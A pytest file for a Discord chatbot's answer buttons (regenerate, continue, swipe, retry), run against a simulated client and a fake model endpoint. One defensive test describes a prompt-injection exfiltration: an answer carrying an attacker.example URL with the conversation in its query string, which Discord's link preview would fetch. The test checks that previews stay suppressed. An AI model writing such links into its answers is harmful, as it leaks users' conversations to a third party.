"""Answer buttons through the real discord.py client (simcord): 🔄 ⏩ ◀ n/m ▶ edit the answer
in place, only for the asker and admins, only on the newest answer, retry after an error,
and the buttons still work on a new client after a restart (same database)."""

from __future__ import annotations

import logging
import sqlite3
from pathlib import Path

import discord
import pytest
import simcord
from simcord.backend.models.channel import Overwrite

from bot.conversation.pacing import STALE_NOTE
from bot.core import Core
from bot.frontends.discord import DiscordOptions
from bot.frontends.discord.client import ChatClient
from bot.frontends.discord.sink import ANSWER_FILE, FILE_ATTACHED, MAX_MESSAGES
from bot.providers import ProviderHub, ProviderSettings
from bot.store import SecretBox, Store, generate_key
from bot.types import ChannelConfig, SecretValue, Source
from tests.discord.conftest import World
from tests.discord.fake_discord import SUPPRESS_EMBEDS
from tests.discord.fake_openai import FakeOpenAI, Script
from tests.discord.helpers import bot_messages, reply_text, requests

pytestmark = pytest.mark.simcord(settle_timeout=30)


def buttons(message: discord.Message) -> dict[str, tuple[str, bool]]:
    """custom_id → (label or emoji, disabled) of the message's buttons."""
    found: dict[str, tuple[str, bool]] = {}
    for row in message.components:
        for child in getattr(row, "children", [row]):
            if isinstance(child, discord.Button) and child.custom_id:
                shown = child.label or str(child.emoji or "")
                found[child.custom_id] = (shown, child.disabled)
    return found


def fresh(world: World, message: discord.Message) -> discord.Message:
    """The message as it is now (after edits)."""
    return next(m for m in world.channel.history() if m.id == message.id)


async def ask(world: World, who: simcord.MemberActor, text: str) -> discord.Message:
    await who.send(world.channel, f"<@{world.bot_id}> {text}")
    answer = world.channel.last_message
    assert answer is not None and answer.author.id == world.bot_id
    return answer


def the_id(message: discord.Message, press: str) -> str:
    return next(c for c in buttons(message) if c.startswith(f"cc:{press}:"))


async def test_regenerate_and_swipe_edit_the_answer_in_place(
    world: World, endpoint: FakeOpenAI
) -> None:
    endpoint.script = Script(chunks=["first ", "answer"])
    answer = await ask(world, world.member, "tell me")
    assert answer.content == "first answer"
    assert [v for v in buttons(answer).values()] == [("🔄", False), ("⏩", False)]

    endpoint.script = Script(chunks=["second ", "answer"])
    pressed = await world.member.click(answer, custom_id=the_id(answer, "regen"))
    assert pressed.deferred and not pressed.followups  # nothing said: the answer changed
    answer = fresh(world, answer)
    assert answer.content == "second answer"
    assert bot_messages(world.channel, world.bot_id) == ["second answer"]  # no new message
    shown = buttons(answer)
    assert [v for v in shown.values()] == [
        ("🔄", False),
        ("⏩", False),
        ("◀", False),
        ("2/2", True),
        ("▶", True),
    ]
    # The regenerated request is the same question from the same history.
    assert endpoint.requests[-1]["messages"] == endpoint.requests[-2]["messages"]

    edits = len(requests(world.env, "PATCH", f"/messages/{answer.id}"))
    await world.member.click(answer, custom_id=the_id(answer, "prev"))
    answer = fresh(world, answer)
    assert answer.content == "first answer"
    # A swipe streams nothing: its text and its buttons change in one edit.
    assert len(requests(world.env, "PATCH", f"/messages/{answer.id}")) == edits + 1
    assert [v for v in buttons(answer).values()][2:] == [("◀", True), ("1/2", True), ("▶", False)]
    assert len(endpoint.requests) == 2  # a swipe asks nobody

    endpoint.script = Script(chunks=[" and more"])
    await world.member.click(answer, custom_id=the_id(answer, "cont"))
    answer = fresh(world, answer)
    assert answer.content == "first answer and more"
    assert bot_messages(world.channel, world.bot_id) == ["first answer and more"]


async def test_an_answer_keeps_its_link_previews_off_through_every_edit(
    world: World, endpoint: FakeOpenAI
) -> None:
    """Discord fetches each link of a message the moment it is posted or edited: an answer
    a prompt injection wrote as https://attacker.example/?q=<the conversation> handed the
    conversation over, no click needed. Posted without previews (SUPPRESS_EMBEDS), an
    answer lost that at its first edit too (discord.py's Message.edit sends the flags,
    embeds shown unless told), then at 🔄 and a typed /regenerate."""
    link = "https://attacker.example/?q=tell+me"
    endpoint.script = Script(chunks=[f"Read {link} ", "now, ", "please."])
    answer = await ask(world, world.member, "tell me")
    edits = requests(world.env, "PATCH", f"/messages/{answer.id}")
    assert edits and answer.flags.suppress_embeds

    endpoint.script = Script(chunks=[f"Read {link}&again=1 ", "now."])
    await world.member.click(answer, custom_id=the_id(answer, "regen"))
    assert link + "&again=1" in fresh(world, answer).content
    assert fresh(world, answer).flags.suppress_embeds

    endpoint.script = Script(chunks=[f"Read {link}&again=2 ", "now."])
    await world.member.slash(world.channel, "regenerate")
    assert link + "&again=2" in fresh(world, answer).content
    assert fresh(world, answer).flags.suppress_embeds
    # No edit on the way showed them for a moment either.
    for edit in requests(world.env, "PATCH", f"/messages/{answer.id}"):
        assert "flags" not in edit.json or edit.json["flags"] & SUPPRESS_EMBEDS


async def test_regenerate_asks_the_newest_question_when_an_older_answer_says_the_same(
    world: World, endpoint: FakeOpenAI
) -> None:
    """Busy-channel probe: two questions got the same words back ("Hello there!"), and 🔄
    on the newest sent the model the history only up to the older answer: it was asked
    the older question, and what it said was stored and shown as the newest one's."""
    await ask(world, world.member, "one")
    answer = await ask(world, world.member, "two")
    asked = endpoint.requests[-1]["messages"]
    assert asked[-1]["content"].endswith("two")
    endpoint.script = Script(chunks=["another"])
    await world.member.click(answer, custom_id=the_id(answer, "regen"))
    assert endpoint.requests[-1]["messages"] == asked  # the same question, the same history
    assert fresh(world, answer).content == "another"


async def test_others_are_refused_privately_and_admins_may(
    world: World, endpoint: FakeOpenAI
) -> None:
    answer = await ask(world, world.member, "mine")
    stranger = world.guild.add_member(world.env.create_user("cy", global_name="Cy"))
    refused = await stranger.click(answer, custom_id=the_id(answer, "regen"))
    assert refused.followups and all(f.ephemeral for f in refused.followups)
    assert "Only Bob or an admin" in reply_text(refused)
    assert len(endpoint.requests) == 1
    assert fresh(world, answer).content == "Hello there!"

    endpoint.script = Script(chunks=["from the admin"])
    await world.admin.click(answer, custom_id=the_id(answer, "regen"))
    assert fresh(world, answer).content == "from the admin"


async def test_an_older_answer_says_why_it_cannot_change(
    world: World, endpoint: FakeOpenAI
) -> None:
    older = await ask(world, world.member, "one")
    await ask(world, world.member, "two")
    pressed = await world.member.click(older, custom_id=the_id(older, "regen"))
    assert "Only the newest answer can change" in reply_text(pressed)
    assert all(f.ephemeral for f in pressed.followups)
    assert len(endpoint.requests) == 2


async def test_a_typed_control_someone_else_may_not_use_is_refused_privately(
    world: World, endpoint: FakeOpenAI
) -> None:
    """`/regenerate` on another member's turn: "thinking…" went out publicly at once, so
    the refusal that followed it was shown to the whole channel."""
    answer = await ask(world, world.admin, "hi")
    refused = await world.member.slash(world.channel, "regenerate")
    assert refused.response is not None and refused.response.ephemeral
    assert "Only Ada or an admin" in reply_text(refused)
    assert len(endpoint.requests) == 1
    endpoint.script = Script(chunks=["a second answer"])
    done = await world.admin.slash(world.channel, "regenerate")  # the asker's: an answer
    assert len(endpoint.requests) == 2
    assert fresh(world, answer).content == "a second answer"  # in place, as 🔄 does
    assert reply_text(done) == "Done: the answer above changed (answer 2 of 2)."
    assert done.response is not None and done.response.ephemeral  # the typer's alone


async def test_a_typed_continue_goes_on_in_the_answers_own_message(
    world: World, endpoint: FakeOpenAI
) -> None:
    """A typed /continue posted the continued answer as a new message: the old one kept
    its note and live buttons, and its ⏩ then went on from the old text (two versions)."""
    endpoint.script = Script(chunks=["one two"])
    answer = await ask(world, world.member, "count")
    endpoint.script = Script(chunks=[" three"])
    done = await world.member.slash(world.channel, "continue")
    assert fresh(world, answer).content == "one two three"
    assert bot_messages(world.channel, world.bot_id) == ["one two three"]  # no second copy
    assert reply_text(done) == "Done: the answer above changed."
    assert [v for v in buttons(fresh(world, answer)).values()] == [("🔄", False), ("⏩", False)]


async def test_retry_on_an_error_answers_in_place(world: World, endpoint: FakeOpenAI) -> None:
    endpoint.script = Script(chunks=["x"], fail_after=0)
    failed = await ask(world, world.member, "hello?")
    assert "overloaded" in failed.content
    assert [v for v in buttons(failed).values()] == [("Retry", False)]
    endpoint.script = Script(chunks=["hi Bob"])
    await world.member.click(failed, custom_id=the_id(failed, "retry"))
    answer = fresh(world, failed)
    assert answer.content == "hi Bob"
    assert [v for v in buttons(answer).values()] == [("🔄", False), ("⏩", False)]


async def test_a_regenerate_that_fails_before_any_text_keeps_the_answer_and_its_buttons(
    world: World, endpoint: FakeOpenAI
) -> None:
    """The message showed only the error, with a Retry that always said "Only the newest
    answer can change"; the answer it replaced was gone from the channel, not the history."""
    endpoint.script = Script(chunks=["A1"])
    answer = await ask(world, world.member, "q")
    endpoint.script = Script(chunks=["x"], fail_after=0)
    await world.member.click(answer, custom_id=the_id(answer, "regen"))
    answer = fresh(world, answer)
    assert answer.content.startswith("A1") and "overloaded" in answer.content, answer.content
    assert [v[0] for v in buttons(answer).values()] == ["🔄", "⏩"]
    endpoint.script = Script(chunks=["A2"])
    pressed = await world.member.click(answer, custom_id=the_id(answer, "regen"))
    assert not pressed.followups, reply_text(pressed)
    assert fresh(world, answer).content == "A2"


async def test_buttons_work_after_a_restart(
    world: World, endpoint: FakeOpenAI, core: Core, tmp_path: Path
) -> None:
    answer = await ask(world, world.member, "before the restart")
    custom_id = the_id(answer, "regen")
    # A new client and a new core on the same database: nothing of the old ones remains.
    defaults = ChannelConfig.of(source=Source.CUSTOM, model="m-small", proxy_url=endpoint.url_v1)
    store = await Store.open(
        f"sqlite+aiosqlite:///{tmp_path}/bot.db",
        SecretBox.from_setting(generate_key()),
        defaults=defaults,
    )
    hub = ProviderHub(ProviderSettings(allow_private_endpoints=True, max_retries=0))
    restarted = Core(store, hub)
    try:
        await world.env.restart_bot(
            ChatClient(restarted, DiscordOptions(token=SecretValue("simcord-token"), shard_count=1))
        )
        endpoint.script = Script(chunks=["after the restart"])
        stranger = world.guild.add_member(world.env.create_user("cy", global_name="Cy"))
        refused = await stranger.click(answer, custom_id=custom_id)
        assert "Only Bob or an admin" in reply_text(refused)
        await world.member.click(answer, custom_id=custom_id)
        answer = fresh(world, answer)
        assert answer.content == "after the restart"
        assert "2/2" in [label for label, _ in buttons(answer).values()]
    finally:
        await world.env.restart_bot(  # the old client again, so the fixtures close in order
            ChatClient(core, DiscordOptions(token=SecretValue("simcord-token"), shard_count=1))
        )
        await restarted.close()


async def test_stop_is_the_askers_and_goes_away_when_the_answer_ends(
    world: World, endpoint: FakeOpenAI
) -> None:
    answer = await ask(world, world.member, "short")
    # The answer went out with ⏹ while it streamed, then got the answer's buttons instead.
    [posted] = requests(world.env, "POST", f"/channels/{world.channel.id}/messages")
    assert f"cc:stop:{world.member.id}" in str(posted.json)
    assert not any(c.startswith("cc:stop:") for c in buttons(answer))
    # The finished text and the buttons that replace ⏹ go out in one edit, not two.
    edits = requests(world.env, "PATCH", f"/channels/{world.channel.id}/messages/{answer.id}")
    assert edits and all("content" in e.json for e in edits)
    assert "cc:regen:" in str(edits[-1].json["components"])
    stop_id = f"cc:stop:{world.member.id}"
    # A stop button left on a message (nothing streams now): the asker hears so privately.
    from bot.frontends.discord.buttons import Press, streaming_buttons
    from bot.frontends.discord.controls import view_of

    view = view_of(streaming_buttons(world.member.id))
    assert view is not None and streaming_buttons(world.member.id)[0].press is Press.STOP
    channel = world.env.bot.get_channel(world.channel.id)
    assert isinstance(channel, discord.TextChannel)
    held = await channel.send("streaming…", view=view)
    await world.env.settle()
    stranger = world.guild.add_member(world.env.create_user("cy", global_name="Cy"))
    refused = await stranger.click(held, custom_id=stop_id)
    assert refused.ephemeral and "can stop this answer" in reply_text(refused)
    idle = await world.member.click(held, custom_id=stop_id)
    # Left there for good (nothing edits it any more): pressed, it goes.
    assert idle.response is not None and idle.response.content == "streaming…"
    [told] = idle.followups
    assert told.ephemeral and told.content == "No answer is being written here."


async def test_a_long_answer_is_replaced_page_by_page(world: World, endpoint: FakeOpenAI) -> None:
    endpoint.script = Script(chunks=["a" * 1500, "\n\n" + "b" * 1500, "\n\n" + "c" * 1500])
    await world.member.send(world.channel, f"<@{world.bot_id}> a long one")
    pages = [m for m in world.channel.history() if m.author.id == world.bot_id]
    assert len(pages) == 3 and [bool(buttons(p)) for p in pages] == [False, False, True]
    endpoint.script = Script(chunks=["x" * 1500, "\n\n" + "y" * 1500])
    await world.member.click(pages[-1], custom_id=the_id(pages[-1], "regen"))
    now = [m for m in world.channel.history() if m.author.id == world.bot_id]
    # The first two pages hold the new answer, in place; the third is gone.
    assert [m.id for m in now] == [p.id for p in pages[:2]]
    assert [m.content for m in now] == ["x" * 1500, "y" * 1500]
    assert now[0].reference is not None  # still the reply to the question
    assert [bool(buttons(m)) for m in now] == [False, True]
    assert "2/2" in [label for label, _ in buttons(now[-1]).values()]


async def test_a_button_where_the_answer_cannot_change_costs_no_model_call(
    world: World, endpoint: FakeOpenAI
) -> None:
    """Permissions probe: 🔄 in an archived thread (or a locked one, or a channel the bot
    lost) asked the model, Discord refused the edit, and the presser was told nothing:
    the stored conversation went on from an answer nobody saw."""
    made = world.env.backend.create_thread(world.channel.id, "talk", world.member.id)
    thread = simcord.ChannelHandle(world.env, world.guild, made)
    await world.env.settle()
    await world.member.send(thread, f"<@{world.bot_id}> hi")
    answer = thread.last_message
    assert answer is not None and answer.author.id == world.bot_id
    regen = the_id(answer, "regen")
    world.env.backend.edit_channel(thread.id, {}, thread_metadata={"archived": True})
    await world.env.settle()
    pressed = await world.member.click(answer, custom_id=regen)
    assert reply_text(pressed) == (
        "I can't change this answer: the thread is archived. Unarchive it to go on there."
    )
    # Locked, and the bot without Manage Threads (which may post there).
    no_manage = discord.Permissions(manage_threads=True).value
    overwrite = Overwrite(target_id=world.bot_id, type=1, allow=0, deny=no_manage)  # type: ignore[arg-type]
    world.env.backend.set_overwrite(world.channel.id, overwrite)
    world.env.backend.edit_channel(
        thread.id, {}, thread_metadata={"archived": False, "locked": True}
    )
    await world.env.settle()
    pressed = await world.member.click(answer, custom_id=regen)
    assert "the thread is locked" in reply_text(pressed)
    assert len(endpoint.requests) == 1  # only the question's own answer

    # Refused after the check (archived meanwhile, say): the presser hears why.
    world.env.backend.edit_channel(thread.id, {}, thread_metadata={"locked": False})
    await world.env.settle()
    world.env.inject_error(
        "PATCH",
        f"/channels/{thread.id}/messages/*",
        status=403,
        code=50083,
        message="Thread is archived",
        times=None,
    )
    pressed = await world.member.click(answer, custom_id=regen)
    assert "I could not change this answer: the thread is archived" in reply_text(pressed)
    typed = await world.member.slash(thread, "regenerate")  # said instead of "Done"
    assert "could not change" in reply_text(typed) and "Done" not in reply_text(typed)


async def test_buttons_in_a_direct_message_still_work(
    simcord_env: simcord.Env, endpoint: FakeOpenAI
) -> None:
    """Review: the check for where an answer can change read a DM interaction's
    permissions, which Discord leaves empty there, and refused every press."""
    user = simcord_env.create_user("dora")
    await user.send_dm("hi in private")
    answer = user.dm_channel.last_message
    assert answer is not None
    endpoint.script = Script(chunks=["second"])
    await user.click(answer, custom_id=the_id(answer, "regen"))
    assert len(endpoint.requests) == 2
    assert bot_messages(user.dm_channel, simcord_env.bot.user.id) == ["second"]


async def test_a_long_answer_is_replaced_without_read_message_history(
    world: World, endpoint: FakeOpenAI
) -> None:
    """Permissions probe: without Read Message History the channel's history reads empty,
    so 🔄 found no earlier page of a long answer: the new text went into the last page and
    on, and the earlier pages of the old answer stayed in the channel. The pages are found
    by the ids stored as the answer was shown; a page the bot took out is not named again."""
    no_history = discord.Permissions(read_message_history=True).value
    overwrite = Overwrite(target_id=world.bot_id, type=1, allow=0, deny=no_history)  # type: ignore[arg-type]
    world.env.backend.set_overwrite(world.channel.id, overwrite)
    await world.env.settle()
    endpoint.script = Script(chunks=["a" * 1500, "\n\n" + "b" * 1500, "\n\n" + "c" * 1500])
    await world.member.send(world.channel, f"<@{world.bot_id}> a long one")
    pages = [m for m in world.channel.history() if m.author.id == world.bot_id]
    assert [m.content[0] for m in pages] == ["a", "b", "c"]

    endpoint.script = Script(chunks=["x" * 1500, "\n\n" + "y" * 1500])
    pressed = await world.member.click(pages[-1], custom_id=the_id(pages[-1], "regen"))
    assert not pressed.followups, reply_text(pressed)
    now = [m for m in world.channel.history() if m.author.id == world.bot_id]
    assert [m.id for m in now] == [p.id for p in pages[:2]]  # in place; the third is gone
    assert [m.content for m in now] == ["x" * 1500, "y" * 1500]
    assert [bool(buttons(m)) for m in now] == [False, True]

    # Back to the first answer: three pages again, the third a new message.
    await world.member.click(now[-1], custom_id=the_id(now[-1], "prev"))
    now = [m for m in world.channel.history() if m.author.id == world.bot_id]
    assert [m.content[0] for m in now] == ["a", "b", "c"] and now[2].id != pages[2].id
    # The removed third page is not among its pages any more: the next answer's third
    # page is the new one (writing into the removed one found it gone and stopped).
    endpoint.script = Script(chunks=["d" * 1500, "\n\n" + "e" * 1500, "\n\n" + "f" * 1500])
    pressed = await world.member.click(now[-1], custom_id=the_id(now[-1], "regen"))
    assert not pressed.followups, reply_text(pressed)
    after = [m for m in world.channel.history() if m.author.id == world.bot_id]
    assert [m.content for m in after] == ["d" * 1500, "e" * 1500, "f" * 1500]
    assert [m.id for m in after] == [m.id for m in now]
    assert "3/3" in [label for label, _ in buttons(after[-1]).values()]


async def test_a_typed_regenerate_changes_a_long_answer_without_read_message_history(
    world: World, endpoint: FakeOpenAI
) -> None:
    """Permissions probe: a typed /regenerate read the answer's last page from Discord,
    which needs Read Message History; without it, the new answer came as a new message
    and the old one stayed, every page of it, with live buttons."""
    no_history = discord.Permissions(read_message_history=True).value
    overwrite = Overwrite(target_id=world.bot_id, type=1, allow=0, deny=no_history)  # type: ignore[arg-type]
    world.env.backend.set_overwrite(world.channel.id, overwrite)
    await world.env.settle()
    endpoint.script = Script(chunks=["a" * 1500, "\n\n" + "b" * 1500])
    await world.member.send(world.channel, f"<@{world.bot_id}> a long one")
    pages = [m for m in world.channel.history() if m.author.id == world.bot_id]
    assert [m.content[0] for m in pages] == ["a", "b"]

    endpoint.script = Script(chunks=["x" * 1500, "\n\n" + "y" * 1500, "\n\n" + "z" * 1500])
    typed = await world.member.slash(world.channel, "regenerate")
    assert "Done: the answer above changed (answer 2 of 2)" in reply_text(typed)
    now = [m for m in world.channel.history() if m.author.id == world.bot_id]
    assert [m.content for m in now] == ["x" * 1500, "y" * 1500, "z" * 1500]
    assert [m.id for m in now[:2]] == [p.id for p in pages]  # in place, then one more
    # The buttons moved to the new last page; the old last page carries none now.
    assert [bool(buttons(m)) for m in now] == [False, False, True]


async def test_a_page_gone_unnoticed_does_not_stop_the_new_answer(
    world: World, endpoint: FakeOpenAI
) -> None:
    """Review: an earlier page still named by its stored id but gone (removed by the bot
    before pages were unlinked as it removes them, an older version) was written into,
    found gone, and the new answer stopped as if someone had deleted it."""
    endpoint.script = Script(chunks=["a" * 1500, "\n\n" + "b" * 1500, "\n\n" + "c" * 1500])
    await world.member.send(world.channel, f"<@{world.bot_id}> a long one")
    pages = [m for m in world.channel.history() if m.author.id == world.bot_id]
    assert [m.content[0] for m in pages] == ["a", "b", "c"]
    del world.env.backend.messages[world.channel.id][pages[0].id]  # the bot never hears of it

    endpoint.script = Script(chunks=["x" * 1500, "\n\n" + "y" * 1500])
    pressed = await world.member.click(pages[-1], custom_id=the_id(pages[-1], "regen"))
    assert not pressed.followups, reply_text(pressed)
    now = [m for m in world.channel.history() if m.author.id == world.bot_id]
    assert [m.content for m in now] == ["x" * 1500, "y" * 1500]
    assert [m.id for m in now] == [p.id for p in pages[1:]]


async def test_a_press_the_database_fails_after_it_is_acknowledged_is_said_in_one_line(
    world: World, endpoint: FakeOpenAI, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """A database error after the press was acknowledged (reading which messages show the answer)
    reached discord.py's View.on_error: a traceback in the log, and the presser saw
    nothing. Now they are told as a failed command tells them, the log says it in one
    line, and the answer stays as it was."""
    caplog.set_level(logging.INFO)
    answer = await ask(world, world.member, "tell me")
    with sqlite3.connect(tmp_path / "bot.db") as db:
        db.execute("DROP TABLE posts")  # which messages show the answer: read before the model is
    pressed = await world.member.click(answer, custom_id=the_id(answer, "regen"))
    assert pressed.deferred
    [said] = pressed.followups
    assert said.ephemeral
    assert said.content.startswith(
        "Something went wrong running /regenerate (OperationalError). Try again; if it keeps "
        "failing, tell the bot's operator"
    ), said.content
    assert fresh(world, answer).content == answer.content
    assert not [r for r in caplog.records if r.exc_info], "a traceback was logged"
    [line] = [r.getMessage() for r in caplog.records if "/regenerate failed" in r.getMessage()]
    assert "OperationalError in bot/" in line and "posts" not in line, line
    assert len(endpoint.requests) == 1  # the model was not asked again


async def test_a_regenerated_answer_whose_edit_is_refused_says_so_and_follows(
    world: World, endpoint: FakeOpenAI
) -> None:
    """🔄 while Discord refuses every edit (a 429 that did not end, say): the new answer
    went into the old message, the edit was refused and nothing said so, the message
    showing the old answer as if it were the new one. Now the new answer follows in a
    message of its own, saying why."""
    endpoint.script = Script(chunks=["first answer"])
    answer = await ask(world, world.member, "tell me")
    endpoint.script = Script(chunks=["second answer"])
    path = f"/channels/{world.channel.id}/messages/*"
    world.env.inject_error("PATCH", path, status=400, code=50035, times=None)
    await world.member.click(answer, custom_id=the_id(answer, "regen"))
    shown = [m for m in world.channel.history() if m.author.id == world.bot_id]
    assert [m.content for m in shown] == [
        "first answer",  # as it was: Discord would not change it
        f"⚠️ {STALE_NOTE}\n\nsecond answer",
    ]
    assert shown[0].id == answer.id


async def test_a_regenerated_long_answer_whose_edits_are_refused_keeps_to_its_messages(
    world: World, endpoint: FakeOpenAI
) -> None:
    """🔄 on an answer of two messages, to one too long for MAX_MESSAGES, while Discord
    refuses every edit: the answer sent again from the stuck message took as many
    messages again (ten); then it went into the old second message, refused too, so the
    new answer's first page showed nowhere and the old answer stood above its rest.
    Now it follows the old first message (the second is taken out), saying why, within
    MAX_MESSAGES, the whole answer in the file."""
    endpoint.script = Script(chunks=["x" * 1500, "\n\n", "y" * 1500])
    await ask(world, world.member, "tell me")
    *_, last = before = [m for m in world.channel.history() if m.author.id == world.bot_id]
    assert len(before) == 2
    long = [f"Line {i}: on and on it goes, and on.\n" for i in range(300)]
    endpoint.script = Script(chunks=long, interval=0.02)
    path = f"/channels/{world.channel.id}/messages/*"
    world.env.inject_error("PATCH", path, status=400, code=50035, times=None)
    await world.member.click(last, custom_id=the_id(last, "regen"))
    shown = [m for m in world.channel.history() if m.author.id == world.bot_id]
    assert len(shown) == MAX_MESSAGES, [m.content[:40] for m in shown]
    stuck, again, *rest = shown
    assert stuck.id == before[0].id and stuck.content == "x" * 1500
    assert again.content.startswith(f"⚠️ {STALE_NOTE}\n\nLine 0: ")
    assert last.id not in [m.id for m in shown]
    # The new answer from its start, in order, with nothing left out before the file.
    text = "\n".join(m.content for m in [again, *rest]).split("\n\n", 1)[1]
    lines = text.removesuffix(f"\n\n{FILE_ATTACHED}").split("\n")
    assert lines == [line.rstrip("\n") for line in long[: len(lines)]]
    assert shown[-1].content.endswith(f"\n\n{FILE_ATTACHED}")
    [file] = shown[-1].attachments
    assert file.filename == ANSWER_FILE
